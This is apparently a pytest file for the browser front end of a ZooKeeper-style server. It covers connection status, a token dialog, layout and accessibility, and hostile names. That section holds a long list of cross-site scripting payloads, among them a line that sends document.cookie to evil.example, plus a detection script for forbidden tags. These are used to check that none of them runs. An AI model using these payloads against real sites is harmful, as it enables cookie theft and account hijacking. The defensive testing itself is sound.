"""The frame of the page: live, gone and on again; hostile names; narrow, dark, and by ear."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from kazoo.client import KazooClient

from pyzk.protocol.records import ACL, Id
from pyzk.server.testing import EmbeddedServer
from pyzk.server.testing.tree_io import Node
from tests.support.browser import Browser, Page
from tests.support.ports import kept_ports

Connect = Callable[[str], KazooClient]
Visit = Callable[..., Page]
VIEWS = ("overview", "tree", "sessions", "locks", "timeline", "watches", "faults", "advice", "ensemble")


def test_it_says_when_the_server_is_gone_and_on_again(browser: Browser) -> None:
    with (
        kept_ports(1) as (port,),
        EmbeddedServer(port=port) as first,
        browser.open(f"http://127.0.0.1:{port}/#tree") as page,
    ):
        first.load({"before": ""})
        page.allowed.append("ERR_")
        page.see("live", "#status")
        page.see("before", ".rows")
        first.stop()
        page.see("gone", "#status")
        assert page.evaluate("document.querySelector('#status').getAttribute('role')") == "status"
        with EmbeddedServer(port=port) as second:
            second.load({"after": ""})
            page.see("live", "#status")
            page.see("after", ".rows")
            page.until("!document.querySelector('.rows').innerText.includes('before')")


def test_what_a_click_asks_for_fails_with_a_word_while_the_server_is_gone(browser: Browser) -> None:
    """It was an exception that nobody caught, and the page said nothing."""
    with EmbeddedServer() as server:
        server.load({"a": {"b": ""}})
        with browser.open(f"{server.url}#tree") as page:
            page.allowed.append("ERR_")
            page.see("a", ".rows")
            server.stop()
            page.see("gone", "#status")
            for part in ("twist", "name"):
                page.evaluate(f"document.querySelector('.row[aria-level=\"2\"] .{part}').click()")
                page.see("the server does not answer", "#toasts")
                page.evaluate("document.querySelector('#toasts').replaceChildren()")


def test_a_server_for_other_machines_asks_for_the_token(browser: Browser) -> None:
    with EmbeddedServer(host="0.0.0.0", control_token="open sesame") as server:
        server.load({"a": ""})
        with browser.open(f"http://127.0.0.1:{server.port}/#tree") as page:
            page.see("This server wants a token", "dialog")
            page.fill("dialog input", "wrong")
            page.click("Use it")
            page.until("document.querySelector('dialog input')?.value === ''")  # it asks again
            page.see("This server wants a token", "dialog")
            page.fill("dialog input", "open sesame")
            page.click("Use it")
            page.see("live", "#status")
            page.until("document.querySelectorAll('.row').length === 3")
            assert "open sesame" not in page.evaluate("document.documentElement.outerHTML")
    with EmbeddedServer(host="0.0.0.0") as server, browser.open(f"http://127.0.0.1:{server.port}/") as page:
        page.see("control is off", "#notice")
        assert page.evaluate("document.querySelectorAll('.row').length") == 0


def test_a_refusal_that_comes_behind_the_right_token_asks_no_more(browser: Browser) -> None:
    with EmbeddedServer(host="0.0.0.0", control_token="open sesame") as server:
        server.load({"a": ""})
        with browser.open(f"http://127.0.0.1:{server.port}/") as page:
            page.allowed.append("401")
            page.see("This server wants a token", "dialog")
            given_meanwhile = """import('/page/api.js').then((api) => {
                const real = fetch;
                window.fetch = async (...given) => {
                    const refused = await real(...given);
                    window.fetch = real;
                    api.setToken("open sesame");
                    return refused;
                };
                return api.get("/clients/0x1").catch((error) => error.status);
            })"""
            assert page.evaluate(given_meanwhile) == 404


# --- hostile names and values ----------------------------------------------------------------------------

SCRIPTS = (
    "hacked()",
    "window.hacked()",
    "top['hac'+'ked']()",
    "import('data:text/javascript,hacked()')",
    "fetch('//evil.example/?'+document.cookie)",
    "alert(1)",
)
TEMPLATES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "' onmouseover='{}' x='",
    '" autofocus onfocus="{}" x="',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "javascript:{}",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<style>@import 'data:text/css,*{{background:url(javascript:{})}}'</style>",
    "<math><mtext><img src onerror={}>",
    "<template><script>{}</script></template>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<form><button formaction=javascript:{}>x</button></form>",
    "<link rel=stylesheet href='data:text/css,*{{}}'><base href=//evil.example>{}",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`${{{}}}`",
    "<!--><img src=x onerror={}>-->",
    "]]><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C%2Fscript%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<video><source onerror={}>",
    "<marquee onstart={}>",
    "<input autofocus onfocus={}>",
    "x\u202e<script>{}</script>\u202c",
    "__proto__ {}",
    "constructor<script>{}</script>",
    "<p is=x data-x={}>",
)


def hostile() -> Iterator[str]:
    for template in TEMPLATES:
        for script in SCRIPTS:
            yield template.replace("{}", script).replace("{{", "{").replace("}}", "}")


WATCH_OUT = """
window.hits = [];
const forbidden = "script iframe object embed base meta link style img video math template".split(" ");
window.hacked = () => window.hits.push("a script has run");
window.alert = () => window.hits.push("a dialog");
document.addEventListener("securitypolicyviolation", event => window.hits.push(event.violatedDirective));
const observer = new MutationObserver(changes => {
  for (const change of changes) for (const node of change.addedNodes) {
    if (!node.querySelectorAll) continue;
    for (const element of [node, ...node.querySelectorAll("*")]) {
      if (forbidden.includes(element.tagName.toLowerCase()))
        window.hits.push(element.outerHTML.slice(0, 100));
      for (const { name, value } of element.attributes ?? [])
        if (/^on|^srcdoc$|^style$/i.test(name) && !/^--level/.test(value)
          || (name === "href" && !/^(#|blob:)/.test(value)))
          window.hits.push(`${name}=${value}`.slice(0, 100));
    }
  }
});
addEventListener("DOMContentLoaded", () => observer.observe(document, { subtree: true, childList: true }));
"""


def test_no_script_of_hostile_names_and_values_runs(
    server: EmbeddedServer, connect: Connect, visit: Visit
) -> None:
    values = list(hostile())
    assert len(set(values)) >= 200
    names = [value.replace("/", "\u2215") for value in values]
    client = connect("worker")
    for name, value in zip(names, values, strict=True):
        acl = (ACL(31, Id("digest", f"{value.replace(':', '')}:x")), ACL(1, Id("world", "anyone")))
        server.load({f"/h/{name}": Node(data=value, acl=acl)})
    some = list(zip(names, values, strict=True))[:: len(SCRIPTS)]
    for n, (name, value) in enumerate(some):
        path = f"/locks/{name}/{n:032x}__lock__0000000000"
        client.create(path, value.encode(), ephemeral=True, makepath=True)
        client.exists(f"{path}/{name}", watch=print)
    for name in names:
        client.exists(f"/w/{name}", watch=print)
    page = visit("#ensemble")
    page.call("Page.addScriptToEvaluateOnNewDocument", source=WATCH_OUT)
    page.call("Page.reload")
    page.until("window.hits && document.querySelector('.ensemble')")
    number = len(values)

    page.evaluate("location.hash = '#tree?path=/h'")
    page.until("[...document.querySelectorAll('.row .name')].some(e => e.textContent === 'h')")
    page.evaluate(
        "[...document.querySelectorAll('.row')].find(e => e.querySelector('.name').textContent === 'h')"
        ".querySelector('.twist').click()"
    )
    page.until("document.querySelectorAll('.row').length > 200")
    page.evaluate("document.querySelector('.row.more')?.click()")
    page.until(f"document.querySelectorAll('.row').length === {number + 4}")
    shown = set(page.texts(".row .name"))
    for name in names:
        assert name.replace("\u202e", "\\u{202e}").replace("\u202c", "\\u{202c}") in shown
    for name, value in some:
        page.evaluate(f"location.hash = '#tree?' + new URLSearchParams({{path: {json.dumps(f'/h/{name}')}}})")
        wanted = value.replace("\u202e", "\\u{202e}").replace("\u202c", "\\u{202c}")
        page.until(f"document.querySelector('pre.data')?.textContent === {json.dumps(wanted)}")

    page.evaluate("location.hash = '#locks'")
    page.until(f"document.querySelectorAll('.card').length === {len(some)}")
    page.evaluate("location.hash = '#watches'")
    page.until("document.querySelectorAll('tbody tr').length === 200")
    page.click("only those that never fire", "label")
    page.until(f"document.querySelectorAll('tbody tr').length === {len(some)}")
    assert all("is ephemeral" in text for text in page.texts("tbody .remark"))
    page.evaluate("location.hash = '#sessions?id=worker'")
    page.see(f"EPHEMERALS ({len(some)})", ".detail")
    page.evaluate("location.hash = '#timeline'")
    page.until("document.querySelectorAll('.event').length > 10")
    for name in names:
        client.exists(f"/h/{name}")
    page.until(
        f"[...document.querySelectorAll('.event')].some(e => e.textContent.includes({json.dumps(names[-1])}))"
    )
    page.evaluate("[...document.querySelectorAll('.event')].slice(-40).forEach(e => e.click())")
    for _ in range(20):
        for name, _ in some[:10]:
            client.exists(f"/polled/{name}")
    page.evaluate("location.hash = '#advice'")
    page.until("document.querySelectorAll('.advice article li').length >= 10")
    page.evaluate("location.hash = '#tree?path=/h'")
    page.until("document.querySelector('.view.tree .row')")
    page.fill("[type=search]", "onerror")
    page.see("found among", ".hint")
    assert page.evaluate("window.hits") == []
    assert not [url for url in page.requests if not url.startswith((server.url or "", "blob:"))]


CUT_OFF = """
[...document.querySelectorAll("header, header *, nav, nav *, main *")]
  .filter(e => e.scrollWidth > e.clientWidth + 1 && e.clientWidth > 1)
  .filter(e => getComputedStyle(e).overflowX !== "visible")
  .filter(e => !e.matches(".row .name"))
  .map(e => e.outerHTML.slice(0, 100))
"""
"""What has more in it than its width shows. The names in the tree are shortened: the znode beside it has the
whole path."""


# --- for everybody ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("view", VIEWS)
def test_a_narrow_window_needs_no_scrolling_aside(view: str, connect: Connect, visit: Visit) -> None:
    client = connect("worker")
    client.ensure_path("/a-long-name-without-blanks" * 3)
    client.Lock("/locks/a").acquire()
    page = visit(f"#{view}", width=360, height=640, dark=True)
    page.until(f"document.querySelector('.view.{view}')")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.evaluate(CUT_OFF) == [], "nothing is cut off aside"
    light = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(light)
    page.dark(False)
    assert page.evaluate(light) != dark
    tree = page.call("Accessibility.getFullAXTree")["nodes"]
    roles = {"button", "link", "textbox", "searchbox", "checkbox", "combobox", "spinbutton", "treeitem"}
    nameless = [
        node["role"]["value"]
        for node in tree
        if not node.get("ignored")
        and node.get("role", {}).get("value") in roles
        and not node.get("name", {}).get("value")
    ]
    assert nameless == [], "a screen reader names each control"


def test_the_colours_are_chosen(visit: Visit) -> None:
    page = visit()
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    for _ in range(2):
        page.evaluate("document.querySelector('#theme').click()")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    assert page.evaluate(ground) != light
    page.call("Page.reload")
    page.until("document.querySelector('.view')")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
